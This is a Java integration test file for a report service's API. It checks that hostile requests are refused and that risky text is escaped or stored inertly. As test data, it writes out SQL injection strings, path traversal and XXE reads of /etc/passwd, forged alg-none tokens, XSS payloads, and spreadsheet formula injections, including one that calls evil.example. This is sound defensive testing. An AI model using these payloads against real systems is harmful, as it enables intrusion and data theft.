package cn.perfeval.report.api;

import cn.perfeval.report.support.GoldenCase;
import cn.perfeval.testsupport.DevTokens;
import io.quarkus.test.common.ResourceArg;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;
import cn.perfeval.testsupport.EmbeddedInfrastructureResource;
import cn.perfeval.testsupport.HostileCorpus;
import io.restassured.response.Response;
import io.restassured.specification.RequestSpecification;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

import java.io.ByteArrayInputStream;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.Base64;
import java.util.List;
import java.util.UUID;
import java.util.function.Supplier;

import static cn.perfeval.report.support.Calls.TOKENS;
import static cn.perfeval.report.support.Calls.as;
import static cn.perfeval.report.support.Calls.asAdmin;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/**
 * A corpus of malformed and hostile requests against every endpoint. Each must be refused with a
 * 4xx problem+json (never a 5xx, never a stack trace), and none may change a stored narrative.
 * Text that is merely dangerous when rendered (markup, spreadsheet formulas) is accepted, stored
 * as given and comes out inert: escaped in HTML, a text cell in XLSX.
 */
@QuarkusTest
@WithTestResource(value = EmbeddedInfrastructureResource.class, initArgs = @ResourceArg(name = "database", value = "report"))
class HostileInputTest {

    static final String NARRATIVE = "/api/v1/units/{unit}/years/{year}/narrative";
    static final String REPORT = "/api/v1/units/{unit}/years/{year}/report";
    static final String SUMMARY = "/api/v1/counties/{county}/years/{year}/summary";

    /** The expected answers of the cases built below, by name (the corpus file carries its own). */
    private static final Map<String, HostileCorpus.Expected> EXPECTED = HostileCorpus.expectations("hostile/report-coded.tsv");

    private final List<HostileCorpus.Case> corpus = new ArrayList<>();
    private final Map<String, Integer> seen = new HashMap<>();

    @Test
    void malformedRequestsAreRefusedAndChangeNothing() {
        String unit = GoldenCase.newUnit();
        String county = "敌意县" + UUID.randomUUID().toString().substring(0, 6);
        GoldenCase.send("budget-events", unit + ":2024", GoldenCase.budgetEvent(unit, 1, county, "敌意镇人民政府"));
        await().atMost(Duration.ofSeconds(30)).untilAsserted(() ->
                asAdmin().queryParam("format", "json").get("/api/v1/units/" + unit + "/years/2024/report").then().statusCode(200));
        asAdmin().contentType("application/json").body(GoldenCase.NARRATIVE.toString())
                .put(NARRATIVE, unit, 2024).then().statusCode(200);
        String before = asAdmin().get(NARRATIVE + "/versions", unit, 2024).then().statusCode(200).extract().asString();
        // the county's monitoring settings exist (version 1), so that a replacement needs If-Match
        asAdmin().contentType("application/json").body("{\"executionGapThreshold\": 10, \"targetGapThreshold\": 20}")
                .put("/api/v1/counties/{county}/years/{year}/monitoring-settings", county, 2024).then().statusCode(200);
        // the county's self-evaluation season (#17) with a task for the unit (version 1, not started)
        asAdmin().contentType("application/json")
                .body("{\"systemCode\": \"xiangtan-county\", \"deadline\": \"2025-03-31\", \"deviationThreshold\": 5}")
                .post("/api/v1/counties/{county}/years/{year}/season", county, 2024).then().statusCode(201);

        // --- narrative bodies: characters that no escaping makes harmless
        for (String bad : List.of("\u0000", "\u0007", "\u001b[31m红色", "\u007f", "\u0085", "\u202e", "\u202d", "\u202a",
                "\u2067", "\u2069", "\ud800", "\udc00", "\udc00\ud800", "a\ud83d")) {
            putJson(unit, "{\"overview\": " + jsonString("正文" + bad + "正文") + "}");
        }
        putJson(unit, "{\"issuer\": " + jsonString("湘潭县\u202e府政民人") + "}");
        putJson(unit, "{\"issuedOn\": \"2025-05-26\", \"problems\": " + jsonString("问题\u0008") + "}");
        // --- sizes
        putJson(unit, "{\"overview\": \"" + "长".repeat(100_001) + "\"}");
        putJson(unit, "{\"issuer\": \"" + "长".repeat(201) + "\"}");
        putJson(unit, "{\"overview\": \"" + "a".repeat(5 * 1024 * 1024) + "\"}");
        // --- JSON structure
        putJson(unit, "{\"overview\": " + "[".repeat(100) + "]".repeat(100) + "}");
        putJson(unit, "[".repeat(10_000) + "]".repeat(10_000));
        putJson(unit, "{\"a\":".repeat(1_000) + "1" + "}".repeat(1_000));
        putJson(unit, "{\"overview\": \"x\", \"extra\": " + "{\"a\":".repeat(200) + "1" + "}".repeat(200) + "}");
        putJson(unit, "{\"overveiw\": \"typo\"}");
        putJson(unit, "{\"__proto__\": {\"admin\": true}}");
        putJson(unit, "{\"overview\": 123}");
        putJson(unit, "{\"overview\": 1.5e308}");
        putJson(unit, "{\"overview\": true}");
        putJson(unit, "{\"overview\": {\"text\": \"x\"}}");
        putJson(unit, "{\"overview\": [\"x\"]}");
        putJson(unit, "{\"issuedOn\": \"2025-02-30\"}");
        putJson(unit, "{\"issuedOn\": \"2025-05-26T00:00:00Z' OR '1'='1\"}");
        putJson(unit, "{\"overview\": \"a\", \"overview\": \"b\"}");
        putJson(unit, "{\"overview\": \"a\"} {\"overview\": \"b\"}");
        putJson(unit, "{\"overview\": \"a\"");
        putJson(unit, "{\"overview\": NaN}");
        putJson(unit, "{/* comment */ \"overview\": \"a\"}");
        putJson(unit, "{'overview': 'a'}");
        putJson(unit, "");
        putJson(unit, "null");
        putJson(unit, "\"just a string\"");
        putJson(unit, "[]");
        refused("invalid UTF-8", () -> asAdmin().contentType("application/json")
                .body(new byte[]{'{', '"', 'o', 'v', 'e', 'r', 'v', 'i', 'e', 'w', '"', ':', '"', (byte) 0xC3, (byte) 0x28, '"', '}'})
                .put(NARRATIVE, unit, 2024));
        refused("text/plain body", () -> asAdmin().contentType("text/plain").body("overview").put(NARRATIVE, unit, 2024));
        refused("XML body", () -> asAdmin().contentType("application/xml")
                .body("<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><narrative><overview>&e;</overview></narrative>")
                .put(NARRATIVE, unit, 2024));
        refused("If-Match not a number", () -> asAdmin().contentType("application/json").header("If-Match", "\"abc\"")
                .body("{\"overview\": \"x\"}").put(NARRATIVE, unit, 2024));
        refused("If-Match stale", () -> asAdmin().contentType("application/json").header("If-Match", "\"0\"")
                .body("{\"overview\": \"x\"}").put(NARRATIVE, unit, 2024));
        refused("If-Match overflow", () -> asAdmin().contentType("application/json").header("If-Match", "\"99999999999999999999999\"")
                .body("{\"overview\": \"x\"}").put(NARRATIVE, unit, 2024));

        // --- path and query parameters
        for (String badUnit : List.of(unit + "' OR '1'='1", "abc", "1".repeat(33), "../../etc/passwd", "<script>", unit + "%00")) {
            refused("narrative unit " + badUnit.replace(unit, "<unit>"), () -> asAdmin().contentType("application/json").body("{\"overview\": \"x\"}")
                    .put(NARRATIVE, badUnit, 2024));
            refused("report unit " + badUnit.replace(unit, "<unit>"), () -> asAdmin().queryParam("format", "json").get(REPORT, badUnit, 2024));
        }
        for (String badYear : List.of("1999", "2101", "-1", "20x4", "2024; DROP TABLE narrative_version", "99999999999")) {
            refused("narrative year " + badYear, () -> asAdmin().get(NARRATIVE, unit, badYear));
            refused("report year " + badYear, () -> asAdmin().get(REPORT, unit, badYear));
        }
        for (String badVersion : List.of("0", "-5", "abc", "99999999999999999999", "999", "1 OR 1=1")) {
            refused("version " + badVersion, () -> asAdmin().get(NARRATIVE + "/versions/{v}", unit, 2024, badVersion));
        }
        for (String format : List.of("pdfx", "docx\u0000", "'; DROP TABLE narrative_version;--", "../../etc/passwd", "x".repeat(2000))) {
            refused("report format " + format.length(), () -> asAdmin().queryParam("format", format).get(REPORT, unit, 2024));
        }
        for (String accept : List.of("application/xml", "image/png", "text/csv", "application/vnd.ms-excel")) {
            refused("report Accept " + accept, () -> asAdmin().accept(accept).get(REPORT, unit, 2024));
        }
        for (String system : List.of("' OR '1'='1", "<script>alert(1)</script>", "x".repeat(65), "a b")) {
            refused("report system " + system, () -> asAdmin().queryParam("format", "json").queryParam("system", system)
                    .get(REPORT, unit, 2024));
            refused("summary system " + system, () -> asAdmin().queryParam("format", "json").queryParam("system", system)
                    .get(SUMMARY, county, 2024));
        }
        for (String badCounty : List.of("湘潭\u202e县", "湘潭\u0007县", "县".repeat(101), "'; DROP TABLE budget_view;--")) {
            refused("summary county " + badCounty.length(), () -> asAdmin().queryParam("format", "json").get(SUMMARY, badCounty, 2024));
        }
        refused("summary format pdf", () -> asAdmin().queryParam("format", "pdf").get(SUMMARY, county, 2024));
        refused("summary year 3000", () -> asAdmin().queryParam("format", "json").get(SUMMARY, county, 3000));
        refused("summary Accept", () -> asAdmin().accept("application/pdf").get(SUMMARY, county, 2024));
        for (String[] q : List.of(new String[]{"size", "0"}, new String[]{"size", "201"}, new String[]{"page", "-1"},
                new String[]{"year", "abc"}, new String[]{"unitCode", "' OR 1=1 --"}, new String[]{"actor", "a".repeat(201)})) {
            refused("audit " + q[0] + "=" + q[1], () -> asAdmin().queryParam(q[0], q[1]).get("/api/v1/audit"));
        }
        refused("DELETE narrative", () -> asAdmin().delete(NARRATIVE, unit, 2024));
        refused("POST report", () -> asAdmin().contentType("application/json").body("{}").post(REPORT, unit, 2024));

        // --- hostile tokens, each trying to save
        Base64.Encoder url = Base64.getUrlEncoder().withoutPadding();
        String noneAlg = url.encodeToString("{\"alg\":\"none\"}".getBytes(StandardCharsets.UTF_8)) + "."
                + url.encodeToString(("{\"iss\":\"" + DevTokens.ISSUER + "\",\"upn\":\"x\",\"groups\":[\"admin\"],\"exp\":"
                + (System.currentTimeMillis() / 1000 + 600) + "}").getBytes(StandardCharsets.UTF_8)) + ".";
        Map<String, String> tokens = new LinkedHashMap<>();
        tokens.put("alg none", noneAlg);
        tokens.put("of another key", DevTokens.generate().finance(unit));
        tokens.put("empty", "");
        tokens.put("Bearer only", "Bearer");
        tokens.put("finance of the unit with a leading space", TOKENS.token("x", "finance", " " + unit, null));
        tokens.put("role ADMIN in capitals", TOKENS.token("x", "ADMIN", null, null));
        tokens.put("unit as an array", TOKENS.sign("{\"iss\":\"" + DevTokens.ISSUER + "\",\"upn\":\"x\",\"groups\":[\"finance\"],\"unit\":[\"" + unit
                + "\"],\"exp\":" + (System.currentTimeMillis() / 1000 + 600) + "}"));
        tokens.put("viewer", TOKENS.token("x", "viewer", unit, null));
        tokens.forEach((what, token) -> refused("token " + what, () -> as(token).contentType("application/json")
                .body("{\"overview\": \"篡改\"}").put(NARRATIVE, unit, 2024)));

        int coded = corpus.size();
        Map<String, String> named = Map.of("admin", TOKENS.admin(), "viewer", TOKENS.viewer(), "finance-own", TOKENS.finance(unit),
                "finance-other", TOKENS.finance("OTHER1"), "evaluator-other", TOKENS.evaluator("别的县"),
                "evaluator-own", TOKENS.evaluator(county), "other-key", DevTokens.generate().admin(),
                "expired", TOKENS.token("admin", "admin", null, null, DevTokens.ISSUER, Duration.ofMinutes(-1)),
                "garbage", "raw:Bearer not.a.token");
        corpus.addAll(HostileCorpus.load("hostile/report.jsonl", Map.of("unit", unit, "county", county),
                Map.of("narrative", GoldenCase.NARRATIVE.toString()), named::get));
        HostileCorpus.Outcome outcome = HostileCorpus.run("report-service", corpus);

        String after = asAdmin().get(NARRATIVE + "/versions", unit, 2024).then().statusCode(200).extract().asString();
        assertThat(after).as("stored narratives after the hostile corpus").isEqualTo(before);
        asAdmin().get("/api/v1/counties/{county}/years/{year}/monitoring-settings", county, 2024).then().statusCode(200)
                .body("version", org.hamcrest.Matchers.equalTo(1)).body("executionGapThreshold", org.hamcrest.Matchers.equalTo(10));
        asAdmin().get(NARRATIVE, unit, 2024).then().statusCode(200)
                .body("version", org.hamcrest.Matchers.equalTo(1))
                .body("narrative.overview", org.hamcrest.Matchers.equalTo(GoldenCase.NARRATIVE.path("overview").asText()));
        System.out.println("HostileInputTest: report-service corpus " + outcome.sent() + " requests (" + coded + " built in code, "
                + (outcome.sent() - coded) + " from hostile/report.jsonl)");
        assertThat(outcome.failures()).as("requests not refused as expected").isEmpty();
        assertThat(outcome.sent()).isGreaterThanOrEqualTo(150);
    }

    @Test
    void markupIsStoredAsGivenAndEscapedInTheHtmlReport() {
        String unit = GoldenCase.newUnit();
        GoldenCase.send("budget-events", unit + ":2024", GoldenCase.budgetEvent(unit, 1));
        String script = "<script>alert(document.cookie)</script>";
        String tags = "<img src=x onerror=alert(1)><a href=\"javascript:alert(2)\">点</a><iframe src=//evil>";
        String attr = "\" onmouseover=\"alert(3)";
        String body = GoldenCase.JSON.createObjectNode().put("overview", script + "\n" + tags)
                .put("problems", attr).put("issuer", "</p><h1>伪造</h1>").toString();
        asAdmin().contentType("application/json").body(body).put(NARRATIVE, unit, 2024).then().statusCode(200);
        await().atMost(Duration.ofSeconds(30)).untilAsserted(() ->
                asAdmin().queryParam("format", "html").get(REPORT, unit, 2024).then().statusCode(200));
        String html = asAdmin().queryParam("format", "html").get(REPORT, unit, 2024).then().statusCode(200).extract().asString();
        assertThat(html).doesNotContain("<script>alert").doesNotContain("<img").doesNotContain("<iframe")
                .doesNotContain("<a href=\"javascript").doesNotContain("<h1>伪造").doesNotContain("\" onmouseover=\"")
                .contains("&lt;script&gt;alert(document.cookie)&lt;/script&gt;")
                .contains("&lt;img src=x onerror=alert(1)&gt;&lt;a href=&quot;javascript:alert(2)&quot;&gt;点&lt;/a&gt;")
                .contains("&lt;/p&gt;&lt;h1&gt;伪造&lt;/h1&gt;")
                .contains("&quot; onmouseover=&quot;alert(3)");
    }

    @Test
    void formulaLikeTextReachesTheCountyXlsxAsTextCells() throws Exception {
        String county = "公式县" + UUID.randomUUID().toString().substring(0, 6);
        List<String> names = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")", "+cmd|' /C calc'!A0",
                "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "=1+1");
        List<String> units = new ArrayList<>();
        for (String name : names) {
            String unit = GoldenCase.newUnit();
            units.add(unit);
            GoldenCase.send("budget-events", unit + ":2024", GoldenCase.budgetEvent(unit, 1, county, name));
            GoldenCase.send("score-events", unit + ":2024", GoldenCase.scoreEvent(unit, 1, 1, county, name,
                    List.of(new BigDecimal("28"), new BigDecimal("19"), new BigDecimal("4"), new BigDecimal("42"))));
        }
        await().atMost(Duration.ofSeconds(30)).untilAsserted(() ->
                asAdmin().queryParam("format", "json").get(SUMMARY, county, 2024).then().statusCode(200)
                        .body("rows.size()", org.hamcrest.Matchers.equalTo(names.size()))
                        .body("rows.total", org.hamcrest.Matchers.everyItem(org.hamcrest.Matchers.notNullValue())));
        byte[] xlsx = asAdmin().queryParam("format", "xlsx").get(SUMMARY, county, 2024).then().statusCode(200)
                .extract().asByteArray();
        List<String> found = new ArrayList<>();
        try (XSSFWorkbook wb = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
            for (Row row : wb.getSheetAt(0)) {
                for (Cell cell : row) {
                    assertThat(cell.getCellType()).as("cell " + cell.getAddress()).isNotEqualTo(CellType.FORMULA);
                    if (cell.getCellType() == CellType.STRING && names.contains(cell.getStringCellValue())) {
                        assertThat(cell.getCellStyle().getQuotePrefixed()).as(cell.getStringCellValue()).isTrue();
                        found.add(cell.getStringCellValue());
                    }
                }
            }
        }
        assertThat(found).containsExactlyInAnyOrderElementsOf(names);
    }

    private void putJson(String unit, String body) {
        refused("PUT " + (body.length() > 60 ? body.substring(0, 60) + "…" : body), () ->
                // naming the current version, so that only the body itself can be the reason for the refusal
                asAdmin().contentType("application/json; charset=UTF-8").header("If-Match", "\"1\"")
                        .body(body.getBytes(StandardCharsets.UTF_8)).put(NARRATIVE, unit, 2024));
    }

    private void refused(String what, Supplier<Response> request) {
        int n = seen.merge(what, 1, Integer::sum);
        corpus.add(HostileCorpus.coded(n == 1 ? what : what + " #" + n, request, EXPECTED));
    }

    private static String jsonString(String s) {
        StringBuilder out = new StringBuilder("\"");
        for (char c : s.toCharArray()) {
            if (c < 0x20 || (c >= 0x7f && c <= 0x9f) || Character.isSurrogate(c) || (c >= 0x2028)) {
                out.append(String.format("\\u%04x", (int) c));
            } else {
                out.append(c);
            }
        }
        return out.append('"').toString();
    }

    @SuppressWarnings("unused")
    private static RequestSpecification none() {
        return as(null);
    }
}
